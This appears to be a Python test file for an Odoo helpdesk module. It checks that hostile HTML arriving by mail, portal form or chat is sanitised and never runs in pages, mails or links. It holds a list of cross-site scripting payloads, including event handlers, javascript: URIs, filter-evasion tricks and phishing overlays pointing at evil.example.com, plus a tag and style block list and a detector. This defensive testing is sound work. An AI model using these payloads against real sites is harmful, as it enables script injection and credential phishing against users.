# Copyright 2026 Omydoo
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).

import re
from urllib.parse import quote

from lxml import html

from odoo.tests import tagged
from odoo.tools import mute_logger

from .harmless_common import MARK, RUN, HarmlessCase

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src=x onerror={RUN}//",
    f"<svg onload='{RUN}'><circle r=9 /></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>svg link</text></a></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<a href='javascript:{RUN}'>link</a>",
    f"<a href='JaVa&#9;Script:{RUN}'>link</a>",
    f"<a href='&#106;avascript:{RUN}'>link</a>",
    f"<a href='vbscript:{RUN}'>link</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>link</a>",
    f"<iframe src='javascript:parent.{MARK}=1'></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<form action='javascript:{RUN}'><input type=submit autofocus></form>",
    "<form action='https://evil.example.com'><input name=password></form>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<button formaction='javascript:{RUN}'>button</button>",
    f"<details open ontoggle='{RUN}'>details</details>",
    f"<body onload='{RUN}'>",
    f"<video><source onerror='{RUN}'></video>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.com'>",
    "<base href='https://evil.example.com/'>",
    "<link rel=stylesheet href='https://evil.example.com/x.css'>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example.com/x.css';</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>"
    "Session expired: <a href='https://evil.example.com'>sign in</a></div>",
    "<div style='position:absolute;top:-500px;left:0;width:9999px'>over</div>",
    "<div style='POSITION : /**/ fixed !important; inset: 0'>over</div>",
    "<div style='background:url(https://evil.example.com/x.png)'>seen</div>",
    f"<div style='width:expression({RUN})'>old</div>",
    f"<div style='behavior:url(javascript:{RUN})'>old</div>",
    "<div style='-moz-binding:url(https://evil.example.com/x.xml)'>old</div>",
    "<div class='modal d-block position-fixed vw-100 vh-100'>classes</div>",
    "<t t-out='env'>qweb</t><p t-esc=\"'{{7*7}}'\">qweb</p>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<p>&lt;script&gt;{RUN}&lt;/script&gt;</p>",
    f"\"><img src=x onerror='{RUN}'>",
    "<table background='https://evil.example.com/x.png'><tr><td>t</td></tr></table>",
)
# Every element of a page, and of what stands apart in it: the thread of the portal, and
# in a thread each mail.
EVERYTHING = (
    "(function walk(root) { return [...root.querySelectorAll('*')].flatMap("
    "(node) => [node, ...(node.shadowRoot ? walk(node.shadowRoot) : [])])"
    "})(document)"
)
TEXTS = (
    ".o_support_text *, .o-mail-Message-body *,"
    " .odoo-editor-editable > :not([data-oe-local-overlay-id]) *"
)
# Whether an element is of what a stranger wrote; a mail has a root of its own.
IS_TEXT = (
    f"(node.matches({TEXTS!r}) || "
    "node.getRootNode().host?.matches('.o-mail-Message-body *'))"
)
FORBIDDEN_TAGS = (
    "script iframe frame object embed form input button select textarea base meta link"
    " style svg math video audio source applet"
).split()
FORBIDDEN_STYLES = re.compile(
    r"position|z-index|expression|behavior|binding|url\s*\(|inset|javascript", re.I
)


def find_dangers(text):
    """Return what could harm in a piece of HTML that a stranger wrote.

    :param str text: of HTML
    :return: descriptions
    :rtype: list[str]
    """
    dangers = []
    for node in html.fragment_fromstring(text or "", create_parent="div").iter():
        if not isinstance(node.tag, str):
            continue
        if node.tag in FORBIDDEN_TAGS:
            dangers.append(f"<{node.tag}>")
        for name, value in node.attrib.items():
            flat = re.sub(r"[\s\x00-\x20]", "", value).lower()
            if (
                name.startswith(("on", "t-", "formaction"))
                or name == "srcdoc"
                or (name == "style" and FORBIDDEN_STYLES.search(value))
                or (
                    name in ("href", "src", "action", "background", "xlink:href")
                    and flat.startswith(("javascript:", "vbscript:", "data:text"))
                )
                or (name == "background" and flat.startswith("http"))
                or (name == "class" and re.search(r"fixed|modal|v[wh]-100", value))
            ):
                dangers.append(f"{name}={value}")
    return dangers


@tagged("post_install", "-at_install")
class TestHarmlessHtml(HarmlessCase):
    """HTML of strangers, shown everywhere, does nothing anywhere."""

    def _create_hostile_ticket(self):
        """Create a ticket by mail with everything hostile, and an answer too."""
        body = "".join(f"<div>{payload}</div>" for payload in PAYLOADS)
        ticket = self._receive(body, subject=f"<img src=x onerror={RUN}>")
        self.assertEqual(len(ticket), 1)
        ticket.write({"category_id": self.category_in.id})
        with mute_logger("odoo.addons.mail.models.mail_thread"):
            self._receive(body, reply_to=ticket.message_ids[-1:])
        return ticket

    def test_each_payload_by_mail(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                ticket = self._receive(f"<p>before</p>{payload}<p>after</p>")
                self.assertEqual(len(ticket), 1)
                self.assertFalse(find_dangers(ticket.description))
                self.assertIn("before", ticket.description)
                for message in ticket.message_ids:
                    self.assertFalse(find_dangers(message.body))

    def test_each_payload_as_an_answer_by_mail(self):
        ticket = self._receive("<p>first</p>")
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                before = ticket.message_ids
                self.assertFalse(
                    self._receive(f"<p>x</p>{payload}", reply_to=before[-1:])
                )
                message = ticket.message_ids - before
                self.assertTrue(message)
                self.assertFalse(find_dangers("".join(message.mapped("body"))))

    def test_payloads_in_the_form_are_text(self):
        self._login(self.a1)
        text = "\n".join(PAYLOADS)
        ticket = self._file(
            subject=PAYLOADS[0],
            description=text,
            claimed_priority="3",
            blocking_what=PAYLOADS[2],
            blocking_who=PAYLOADS[4],
        )
        self.assertFalse(find_dangers(ticket.description))
        shown = html.fragment_fromstring(ticket.description, create_parent="div")
        self.assertIn("<script>", shown.text_content())
        for response in (
            self.url_open(f"/my/ticket/{ticket.id}"),
            self.url_open(f"/my/tickets?search={quote(PAYLOADS[2])}"),
            self._submit(subject="", description=text, blocking_what=PAYLOADS[2]),
        ):
            for payload in (PAYLOADS[0], PAYLOADS[2], PAYLOADS[4]):
                self.assertNotIn(payload, response.text)

    def test_payloads_of_customers_in_messages(self):
        ticket = self._create_ticket()
        self._login(self.a1)
        # Numbered: what says the same as the last one is not posted again.
        for number, payload in enumerate(PAYLOADS):
            self.url_open(
                "/mail/message/post",
                json={
                    "jsonrpc": "2.0",
                    "method": "call",
                    "params": {
                        "thread_model": "helpdesk.ticket",
                        "thread_id": ticket.id,
                        "post_data": {"body": f"{number} {payload}"},
                    },
                },
            )
        self.assertGreater(len(ticket.message_ids), len(PAYLOADS) - 5)
        for message in ticket.message_ids:
            self.assertFalse(find_dangers(message.body), message.body)

    # === IN A BROWSER === #

    def assertNothingRan(self, browser, about):
        found = self._evaluate(
            browser,
            f"(window.{MARK} || [...document.querySelectorAll('iframe')].some("
            f"(frame) => {{try {{return frame.contentWindow.{MARK}}} catch {{}}}}))"
            " ? 'ran' : ''",
        )
        self.assertFalse(found, about)
        self.assertFalse(
            self._evaluate(
                browser,
                f"{EVERYTHING}.filter((node) => {IS_TEXT} && "
                "['fixed', 'absolute', 'sticky'].includes("
                "getComputedStyle(node).position)"
                ").map((node) => node.outerHTML.slice(0, 200)).join()",
            ),
            about,
        )
        self.assertEqual(
            self._evaluate(browser, "location.hostname"), "127.0.0.1", about
        )

    def _click_every_link(self, browser):
        """Follow what looks like a link to a script.

        :return: how many
        :rtype: int
        """
        return self._evaluate(
            browser,
            f"{EVERYTHING}.filter((node) => node.matches('a') && "
            "/link/.test(node.textContent)).map((link) => link.click()).length",
        )

    def test_portal_runs_nothing(self):
        ticket = self._create_hostile_ticket()
        with self._browse(self.a1) as browser:
            for path in ("/my/tickets", f"/my/ticket/{ticket.id}"):
                self._open_page(browser, path)
                self._wait_until(browser, "document.querySelector('#wrapwrap')")
                self.assertNothingRan(browser, path)
            self._wait_until(
                browser,
                f"{EVERYTHING}.some((node) => {IS_TEXT}"
                " && /over/.test(node.textContent))",
            )
            self.assertNothingRan(browser, "thread")
            self.assertGreater(self._click_every_link(browser), 3)
            self.assertNothingRan(browser, "links")

    def test_backend_runs_nothing(self):
        ticket = self._create_hostile_ticket()
        action = self.env.ref("helpdesk_mgmt.helpdesk_ticket_action").id
        with self._browse(self.agent) as browser:
            for path, selector in (
                (f"/odoo/action-{action}?view_type=kanban", ".o_kanban_record"),
                (f"/odoo/action-{action}?view_type=list", ".o_data_row"),
                (f"/odoo/action-{action}/{ticket.id}", ".o-mail-Message"),
            ):
                self._open_page(browser, path)
                self._wait_until(browser, f"document.querySelector('{selector}')", 40)
                self.assertNothingRan(browser, path)
            self.assertGreater(self._click_every_link(browser), 3)
            self.assertNothingRan(browser, "links")

    # === MAILS AND PDF === #

    def test_mails_hold_nothing_hostile(self):
        ticket = self._create_hostile_ticket()
        ticket.message_subscribe(self.agent.partner_id.ids)
        ticket.with_user(self.a1).message_post(
            body=ticket.description, message_type="comment"
        )
        self._run_notifications()
        mails = self.env["mail.mail"].search(
            [("model", "=", ticket._name), ("res_id", "=", ticket.id)]
        )
        self.assertTrue(mails)
        for mail in mails:
            body = html.document_fromstring(mail.body_html)
            # As a text it does nothing; anywhere else it could.
            self.assertFalse(body.xpath(f"//@*[contains(., '{MARK}')]"))
            self.assertFalse(body.xpath("//script|//iframe|//object|//form|//svg"))
            self.assertFalse(
                [
                    value
                    for value in body.xpath("//@href|//@src")
                    if "javascript" in value.lower()
                ]
            )
